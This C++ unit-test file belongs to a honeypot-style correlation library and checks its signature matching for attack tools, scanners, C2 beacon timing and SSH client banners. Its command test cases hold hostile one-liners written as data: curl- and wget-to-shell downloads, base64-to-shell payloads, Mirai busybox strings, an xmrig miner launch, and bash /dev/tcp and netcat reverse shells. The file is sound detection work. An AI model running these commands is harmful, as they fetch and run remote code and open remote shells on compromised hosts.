#include "correlate/tool_signatures.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace decnet::correlate {
namespace {

std::vector<std::string_view> names(const std::vector<ToolMatch>& matches) {
  std::vector<std::string_view> out;
  for (const auto& m : matches) out.push_back(m.tool);
  return out;
}

using Names = std::vector<std::string_view>;

TEST(ToolSignatures, BeaconTimingReferenceCases) {
  const auto cobalt = names(match_beacon_timing(60, 0.20));
  EXPECT_NE(std::find(cobalt.begin(), cobalt.end(), "cobalt_strike"), cobalt.end());
  EXPECT_EQ(names(match_beacon_timing(45, 0.10)), Names{"havoc"});
  EXPECT_EQ(names(match_beacon_timing(30, 0.15)), Names{"mythic"});
  EXPECT_TRUE(match_beacon_timing(5, 0.10).empty());
}

TEST(ToolSignatures, BeaconTimingReturnsEveryFitInTableOrder) {
  EXPECT_EQ(names(match_beacon_timing(60, 0.24)), (Names{"cobalt_strike", "sliver"}));
  EXPECT_EQ(names(match_beacon_timing(68, 0.20)), Names{"cobalt_strike"});
  EXPECT_TRUE(match_beacon_timing(68.5, 0.20).empty());
  EXPECT_EQ(names(match_beacon_timing(69, 0.30)), Names{"sliver"});
  EXPECT_TRUE(match_beacon_timing(45, 0.14).empty());
  for (const auto& m : match_beacon_timing(60, 0.24)) {
    EXPECT_EQ(m.evidence, ToolEvidence::beacon_timing);
    EXPECT_TRUE(m.automated);
  }
}

TEST(ToolSignatures, UserAgentsOfKnownTools) {
  const std::pair<std::string_view, std::string_view> cases[] = {
      {"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap"},
      {"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "nikto"},
      {"sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"},
      {"Mozilla/5.0 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei"},
      {"masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"},
      {"Mozilla/5.0 zgrab/0.x", "zgrab"},
      {"Mozilla/4.0 (compatible; Metasploit RSPEC)", "metasploit"},
      {"curl/7.88.1", "curl"},
      {"python-requests/2.31.0", "python_requests"},
      {"gobuster/3.6", "gobuster"},
      {"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
       "dirbuster"},
      {"Mozilla/4.0 (Hydra)", "hydra"},
      {"Wfuzz/3.1.0", "wfuzz"},
  };
  for (const auto& [agent, tool] : cases) {
    SCOPED_TRACE(agent);
    const auto found = match_user_agent(agent);
    ASSERT_EQ(names(found), Names{tool});
    EXPECT_EQ(found[0].evidence, ToolEvidence::http_header);
  }
}

TEST(ToolSignatures, UserAgentsMatchInAnyCase) {
  EXPECT_EQ(names(match_user_agent("NIKTO/2.1.6")), Names{"nikto"});
  EXPECT_EQ(names(match_user_agent("SQLMap")), Names{"sqlmap"});
  EXPECT_EQ(names(match_user_agent("CURL/8.0")), Names{"curl"});
}

TEST(ToolSignatures, OrdinaryUserAgentsMatchNothing) {
  for (const std::string_view agent :
       {"", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 curl/7.1", "libcurl-agent/1.0", "Wget/1.21.3", "python-urllib3/2.0"}) {
    SCOPED_TRACE(agent);
    EXPECT_TRUE(match_user_agent(agent).empty());
  }
}

TEST(ToolSignatures, UnanchoredPatternsAreSubstrings) {
  // As in the reference: "hydra" is found in "hydrant".
  EXPECT_EQ(names(match_user_agent("hydrant-monitor/1.0")), Names{"hydra"});
}

TEST(ToolSignatures, HeadersAreMatchedByName) {
  const HttpHeader mailer[] = {{"X-Mailer", "gophish"}};
  EXPECT_EQ(names(match_http_headers(mailer)), Names{"gophish"});
  const HttpHeader mailer_lower[] = {{"x-MAILER", "GoPhish v0.12"}};
  EXPECT_EQ(names(match_http_headers(mailer_lower)), Names{"gophish"});
  EXPECT_TRUE(match_user_agent("gophish").empty());
  const HttpHeader wrong_header[] = {{"Referer", "sqlmap"}, {"X-Mailer", "sqlmap"}};
  EXPECT_TRUE(match_http_headers(wrong_header).empty());
}

TEST(ToolSignatures, HeaderMatchesAreDedupedInTableOrder) {
  const HttpHeader headers[] = {
      {"User-Agent", "sqlmap via Nmap Scripting Engine"},
      {"X-Mailer", "gophish"},
      {"user-agent", "sqlmap again"},
  };
  EXPECT_EQ(names(match_http_headers(headers)), (Names{"nmap", "gophish", "sqlmap"}));
}

TEST(ToolSignatures, OnlyTheFirstKibibyteIsExamined) {
  const std::string tool = "sqlmap";
  EXPECT_EQ(names(match_user_agent(std::string(kMaxMatchedInput - tool.size(), 'a') + tool)),
            Names{"sqlmap"});
  EXPECT_TRUE(match_user_agent(std::string(kMaxMatchedInput - 3, 'a') + tool).empty());
  EXPECT_TRUE(match_user_agent(std::string(4 * kMaxMatchedInput, 'a') + tool).empty());

  EXPECT_EQ(names(match_command(std::string(kMaxMatchedInput - 6, ' ') + "xmrig")), Names{"xmrig"});
  EXPECT_TRUE(match_command(std::string(kMaxMatchedInput, ' ') + "xmrig").empty());
}

TEST(ToolSignatures, ClientBannersOfKnownClients) {
  struct Case {
    std::string_view banner;
    std::string_view tool;
    bool automated;
  };
  const Case cases[] = {
      {"SSH-2.0-libssh2_1.9.0", "libssh2", true},
      {"SSH-2.0-libssh_0.9.6", "libssh", true},
      {"SSH-2.0-libssh-0.6.3", "libssh", true},
      {"SSH-2.0-paramiko_2.7.2", "paramiko", true},
      {"paramiko_3.4.0", "paramiko", true},
      {"SSH-2.0-Go", "go_ssh", true},
      {"SSH-2.0-Go\r\n", "go_ssh", true},
      {"SSH-2.0-AsyncSSH_2.13.0", "asyncssh", true},
      {"SSH-2.0-JSCH-0.1.54", "jsch", true},
      {"SSH-2.0-SSHJ_0.27.0", "sshj", true},
      {"SSH-2.0-Renci.SshNet.SshClient.0.0.1", "ssh_net", true},
      {"SSH-2.0-phpseclib_1.0 (gmp, openssl, mcrypt)", "phpseclib", true},
      {"SSH-2.0-Twisted_22.4.0", "twisted_conch", true},
      {"SSH-2.0-ZGrab ZGrab SSH Survey", "zgrab", true},
      {"SSH-2.0-Nmap-SSH2-Hostkey", "nmap", true},
      {"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", "openssh", false},
      {"SSH-1.99-OpenSSH_3.9p1", "openssh", false},
      {"SSH-2.0-PuTTY_Release_0.76", "putty", false},
      {"SSH-2.0-WinSCP_release_5.21.5", "winscp", false},
      {"SSH-2.0-dropbear_2020.81", "dropbear", false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.banner);
    const auto found = match_client_banner(c.banner);
    ASSERT_TRUE(found);
    EXPECT_EQ(found->tool, c.tool);
    EXPECT_EQ(found->automated, c.automated);
    EXPECT_EQ(found->evidence, ToolEvidence::client_banner);
  }
}

TEST(ToolSignatures, UnknownBannersMatchNothing) {
  for (const std::string_view banner :
       {"", "SSH-2.0-", "SSH-2.0", "SSH-2.0-GoAnywhere_6.8", "SSH-2.0-libsshfoo",
        "SSH-2.0-WeirdClient_1.0", "HTTP/1.1 200 OK", "SSH-2.0-Mozilla paramiko"}) {
    SCOPED_TRACE(banner);
    EXPECT_FALSE(match_client_banner(banner));
  }
}

TEST(ToolSignatures, CommandsOfKnownTooling) {
  const std::pair<std::string_view, std::string_view> cases[] = {
      {"cd /tmp; wget http://203.0.113.5/x.sh -O- | sh", "wget_pipe_shell"},
      {"wget -qO- http://203.0.113.5/i|/bin/bash", "wget_pipe_shell"},
      {"curl -fsSL http://203.0.113.5/install | sudo bash -s", "curl_pipe_shell"},
      {"CURL http://x/y | busybox sh", "curl_pipe_shell"},
      {"echo ZWNobyBoaQ== | base64 -d | sh", "base64_pipe_shell"},
      {"echo ZWNobyBoaQ==|base64 --decode|bash", "base64_pipe_shell"},
      {"/bin/busybox MIRAI", "mirai"},
      {"enable; system; shell; sh; /bin/busybox ECCHI", "mirai"},
      {"busybox wget; /bin/busybox SORA", "mirai"},
      {"./xmrig -o pool.example:3333 -u wallet", "xmrig"},
      {"chmod +x xmrig-6.21.0/xmrig", "xmrig"},
      {"masscan -p22 0.0.0.0/0 --rate 100000", "masscan"},
      {"/usr/bin/nmap -sS -p- 10.0.0.1", "nmap"},
      {"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "dev_tcp_reverse_shell"},
      {"exec 5<>/dev/udp/203.0.113.5/53", "dev_tcp_reverse_shell"},
      {"nc -e /bin/sh 203.0.113.5 4444", "netcat_reverse_shell"},
      {"ncat 203.0.113.5 4444 -e /bin/bash", "netcat_reverse_shell"},
  };
  for (const auto& [command, tool] : cases) {
    SCOPED_TRACE(command);
    const auto found = match_command(command);
    ASSERT_EQ(names(found), Names{tool});
    EXPECT_EQ(found[0].evidence, ToolEvidence::command);
  }
}

TEST(ToolSignatures, OrdinaryCommandsMatchNothing) {
  for (const std::string_view command : {
           "",
           "uname -a",
           "wget http://203.0.113.5/file.tar.gz",
           "curl http://x/ | grep shadow",
           "sh install.sh | curl -d @- http://x",
           "wget http://x/a || sh fallback.sh",
           "busybox ls",
           "echo ECCHI",
           "base64 -d blob > out.bin",
           "base64 blob | sh",
           "cat xmrigger.conf",
           "unmap all",
           "ls /dev/tty",
           "nc -zv 10.0.0.1 22",
           "uncle -e x",
       }) {
    SCOPED_TRACE(command);
    EXPECT_TRUE(match_command(command).empty());
  }
}

TEST(ToolSignatures, OneCommandCanShowSeveralTools) {
  EXPECT_EQ(names(match_command("cd /tmp; wget http://x/m -O- | sh; ./xmrig -o pool:3333; "
                                "nmap 10.0.0.0/8")),
            (Names{"wget_pipe_shell", "xmrig", "nmap"}));
}

TEST(ToolSignatures, AppendNewToolsKeepsDetectionOrder) {
  std::vector<ToolMatch> tools;
  append_new_tools(tools, match_command("nmap x; masscan y"));
  append_new_tools(tools, match_user_agent("curl/8 Nmap Scripting Engine"));
  EXPECT_EQ(names(tools), (Names{"masscan", "nmap", "curl"}));
  EXPECT_EQ(tools[1].evidence, ToolEvidence::command);
}

TEST(ToolSignatures, KnownToolsComeBackFromTheirNames) {
  const auto libssh = known_tool("libssh", ToolEvidence::client_banner);
  ASSERT_TRUE(libssh);
  EXPECT_TRUE(libssh->automated);
  const auto putty = known_tool("putty", ToolEvidence::client_banner);
  ASSERT_TRUE(putty);
  EXPECT_FALSE(putty->automated);
  EXPECT_TRUE(known_tool("havoc", ToolEvidence::beacon_timing));
  EXPECT_TRUE(known_tool("gophish", ToolEvidence::http_header));
  EXPECT_FALSE(known_tool("dev_tcp_reverse_shell", ToolEvidence::command)->automated);
  EXPECT_FALSE(known_tool("cobalt_strike", ToolEvidence::command));
  EXPECT_FALSE(known_tool("nosuch", ToolEvidence::http_header));

  for (const auto e : {ToolEvidence::beacon_timing, ToolEvidence::http_header,
                       ToolEvidence::client_banner, ToolEvidence::command}) {
    EXPECT_EQ(parse_tool_evidence(to_string(e)), e);
  }
  EXPECT_FALSE(parse_tool_evidence("banner"));
}

}  // namespace
}  // namespace decnet::correlate
